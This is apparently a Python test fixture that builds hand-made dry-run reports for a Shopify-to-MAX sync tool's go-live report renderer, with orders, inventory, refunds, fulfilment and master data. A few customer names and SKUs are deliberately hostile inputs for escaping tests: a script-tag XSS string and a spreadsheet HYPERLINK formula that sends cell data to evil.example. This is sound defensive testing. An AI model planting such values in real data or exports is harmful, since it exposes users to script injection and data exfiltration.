"""Dry-run reports as the five flows make them, by hand: no flow writes its go-live tables yet, so these follow
the table layouts the flows promise (docs/go-live.md) and the demo's seeded cases (#1008's unknown SKU, the
Pop-up Stand without a stockroom, the catalogue's duplicate SKUs). Some values are hostile on purpose: markup in
a customer name, spreadsheet formulas in text fields."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from shopify_max.dry_run import DryRunReport
from shopify_max.go_live.report import GoLiveReportFiles, render_go_live_report

RUN_ID = "manual__2026-11-29T16:40:00+00:00"
GENERATED_AT = datetime(2026, 11, 29, 16, 41, 7, tzinfo=UTC)
WINDOW = (datetime(2026, 9, 30, 16, 40, tzinfo=UTC), datetime(2026, 11, 29, 16, 40, tzinfo=UTC))
HOSTILE_NAME = "Smith & <Sons>"
SCRIPT_NAME = "<script>alert('x')</script> Ltd"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
INVENTORY_ROWS = 250  # more than the HTML shows (200)
# The report's sections, in reading order: the ids docs/go-live.md links to, and their headings.
SECTIONS = {
    "section-overview": "Overview",
    "section-orders": "Orders → MAX sales orders",
    "section-customers": "Customers: would be created, matched, or ambiguous",
    "section-refunds": "Refunds → MAX credit memos",
    "section-fulfilment": "Fulfilment → Shopify",
    "section-inventory": "Inventory levels → Shopify",
    "section-codes": "Unmapped SKUs, locations and codes; duplicates",
    "section-coverage": "Catalogue coverage: MAX parts and Shopify variants",
    "section-master-data": "Master data: customers, parts and codes",
    "section-text-rules": "Fields that would be truncated or transliterated, by rule",
}


def orders_report() -> DryRunReport:
    report = DryRunReport(flow="orders", read={"orders": 30})
    report.add_write("sales_orders", 20)
    report.add_write("customers", 3)
    report.fail("order #1008 (gid://shopify/Order/9007199254741008)", "line_items[1].sku", "unmapped_sku",
                "SKU 'SKU-UNKNOWN-404' (Discontinued part) has no MAX part in include/mappings/sku_to_part.csv")
    report.fail("order #1013 (gid://shopify/Order/9007199254741013)", "shipping_address", "address_too_long",
                "address needs more than six lines")
    for number in (1019, 1021, 1024, 1027, 1030):
        report.fail(f"order #{number} (gid://shopify/Order/90071992547410{number % 100:02d})", "payment_gateway_names",
                    "unmapped_gateway", "payment gateway 'klarna' is not in include/mappings/payment_gateways.csv")
    failed = {1008: "unmapped_sku", 1013: "address_too_long", 1019: "unmapped_gateway", 1021: "unmapped_gateway",
              1024: "unmapped_gateway", 1027: "unmapped_gateway", 1030: "unmapped_gateway"}
    rows = []
    for number in range(1001, 1031):
        outcome, reason = ("would_fail", failed[number]) if number in failed else ("would_export", "CUSTPO SHOP#")
        if number in (1001, 1002):
            outcome, reason = "already_exported", f"already exported as ORDNUM 0010000{number - 1000} (id_map)"
        if number == 1017:
            outcome, reason = "skipped", "cancelled in Shopify at 2026-11-29T16:30:02+00:00 before export"
        rows.append({"order": f"#{number}", "shopify_id": f"gid://shopify/Order/90071992547410{number % 100:02d}",
                     "outcome": outcome, "reason": reason, "custid": "C000123" if number % 3 else "(new)",
                     "total": f"{19.99 + number - 1001:.2f}"})
    report.tables["orders"] = rows
    report.tables["rules_applied"] = [
        {"order": "#1002", "field": "ship_to.name", "rule": "truncate_30",
         "before": "Müller-Lüdenscheidt Großhandel GmbH & Co. KG", "after": "Muller-Ludenscheidt Grosshandel"},
        {"order": "#1003", "field": "ship_to.name", "rule": "transliterate_ascii", "before": "Zoë Ångström",
         "after": "Zoe Angstrom"},
        {"order": "#1004", "field": "bill_to.name", "rule": "transliterate_ascii", "before": HOSTILE_NAME,
         "after": HOSTILE_NAME},
        {"order": "#1005", "field": "ship_to.address1", "rule": "truncate_30",
         "before": "Unit 4, The Old Brewery Industrial Estate", "after": "Unit 4, The Old Brewery Indust"},
    ]
    report.tables["new_customers"] = [
        {"shopify_customer_id": "gid://shopify/Customer/7020", "custid": "W000001", "name": HOSTILE_NAME},
        {"shopify_customer_id": "gid://shopify/Customer/7021", "custid": "W000002", "name": SCRIPT_NAME},
        {"shopify_customer_id": "gid://shopify/Customer/7022", "custid": "W000003", "name": FORMULA_NAME},
    ]
    report.notes.append("1 order cancelled in Shopify before export is skipped.")
    return report


def inventory_report() -> DryRunReport:
    report = DryRunReport(flow="inventory", read={"inventory_levels": 1200})
    rows = []
    for index in range(INVENTORY_ROWS):
        delta = (INVENTORY_ROWS - index) * (-1 if index % 2 else 1)
        rows.append({"sku": f"SKU-{index:05d}", "location": "Main Warehouse", "location_id": "64001001",
                     "shopify_quantity": 500, "target": 500 + delta, "delta": delta})
    rows[1]["sku"] = "-SKU-DASH"  # a SKU that starts like a formula
    report.tables["inventory_changes"] = rows
    report.add_write("inventory_levels", INVENTORY_ROWS)
    report.tables["unmapped"] = [
        {"kind": "location", "value": "Pop-up Stand", "detail": "Shopify location 64001003 has no MAX stockroom"},
        {"kind": "sku", "value": "SKU-UNKNOWN-404", "detail": "no MAX part in sku_to_part.csv"},
        {"kind": "sku", "value": "@SUM(1+1)", "detail": "a SKU typed as a formula"},
    ]
    report.fail("SKU-UNKNOWN-404 @ Main Warehouse", "sku", "unmapped_sku", "no MAX part in sku_to_part.csv")
    report.fail("* @ Pop-up Stand", "location", "unmapped_location", "Shopify location 'Pop-up Stand' has no "
                "MAX stockroom in locations.csv")
    return report


def master_data_report() -> DryRunReport:
    report = DryRunReport(flow="master_data", read={"max_customers": 6, "shopify_customers": 5, "parts": 500})
    report.add_write("shopify_customers", 1)
    report.tables["customers"] = [
        {"custid": "C000123", "name": "Acme Trading", "decision": "matched", "rule": "email",
         "shopify_customer_id": "gid://shopify/Customer/7001", "candidates": 1},
        {"custid": "C000124", "name": HOSTILE_NAME, "decision": "ambiguous", "rule": "company_name",
         "shopify_customer_id": "", "candidates": ["gid://shopify/Customer/7002", "gid://shopify/Customer/7003"]},
        {"custid": "C000125", "name": "Zoë Ångström", "decision": "would_create", "rule": "",
         "shopify_customer_id": "", "candidates": 0},
        {"custid": "C000126", "name": "Baker Bros", "decision": "unmatched", "rule": "",
         "shopify_customer_id": "", "candidates": 0},
        {"custid": "C000127", "name": "Northwind GmbH", "decision": "conflict", "rule": "email",
         "shopify_customer_id": "gid://shopify/Customer/7004", "candidates": 1},
    ]
    report.tables["web_customers_without_account"] = [
        {"shopify_customer_id": "gid://shopify/Customer/7010", "email": "guest@example.com",
         "phone": "+44 20 7946 0000", "orders": 3}]
    report.tables["coverage"] = [
        {"kind": "price_mismatch", "sku": "SKU-00003", "part_number": "PRT-00003", "detail": "price differs",
         "shopify_value": "12.50", "max_value": "12.00"},
        {"kind": "duplicate_sku", "sku": "SKU-00007", "part_number": "", "detail": "2 variants share the SKU",
         "shopify_value": "gid://shopify/ProductVariant/1;gid://shopify/ProductVariant/2", "max_value": ""},
        {"kind": "part_without_variant", "sku": "", "part_number": "PRT-00499", "detail": "MAX-only part",
         "shopify_value": "", "max_value": "PRT-00499"},
        {"kind": "taxable_mismatch", "sku": "SKU-00011", "part_number": "PRT-00011", "detail": "",
         "shopify_value": True, "max_value": False},
    ]
    report.tables["code_checks"] = [
        {"file": "payment_gateways.csv", "value": "gift_card", "problem": "terms code PP not in MAX",
         "seen_in": "orders"},
        {"file": "carriers.csv", "value": "LT", "problem": "no Shopify carrier name", "seen_in": "fulfilment"},
    ]
    report.fail("MAX customer C000124", "customer.company", "ambiguous_match",
                f"{HOSTILE_NAME} matches 2 Shopify customers by company name")
    return report


def refunds_report() -> DryRunReport:
    report = DryRunReport(flow="refunds", read={"refunds": 4})
    report.add_write("credit_memos", 3)
    report.fail("refund 555 of order #1005", "refund_line_items[0]", "return_not_fulfilled",
                "a return on an order Shopify has not fulfilled is refused")
    report.tables["refunds"] = [
        {"refund": "gid://shopify/Refund/555", "order": "gid://shopify/Order/9007199254741005", "source": "poll",
         "outcome": "would_fail", "reason": "return_not_fulfilled", "ordnum": "00100005", "credit_memo_total": None},
        {"refund": "gid://shopify/Refund/556", "order": "gid://shopify/Order/9007199254741006", "source": "webhook",
         "outcome": "would_export", "reason": "", "ordnum": "00100006", "credit_memo_total": "-19.99"}]
    return report


def fulfilment_report() -> DryRunReport:
    report = DryRunReport(flow="fulfilment", read={"max_shipments": 2})
    report.add_write("fulfilments", 2)
    report.tables["fulfilments"] = [{"ordnum": "00100001", "order": "#1001", "carrier": "UPS",
                                     "tracking": "1Z999AA10123456784"}]
    report.tables["late_shipments"] = [{"ordnum": "00100002", "days_late": 3}]  # a table no section knows
    return report


def all_reports() -> list[DryRunReport]:
    return [orders_report(), refunds_report(), fulfilment_report(), inventory_report(), master_data_report()]


def render(reports: list[DryRunReport], out_dir: Path) -> GoLiveReportFiles:
    return render_go_live_report(reports, out_dir, run_id=RUN_ID, generated_at=GENERATED_AT, window=WINDOW)
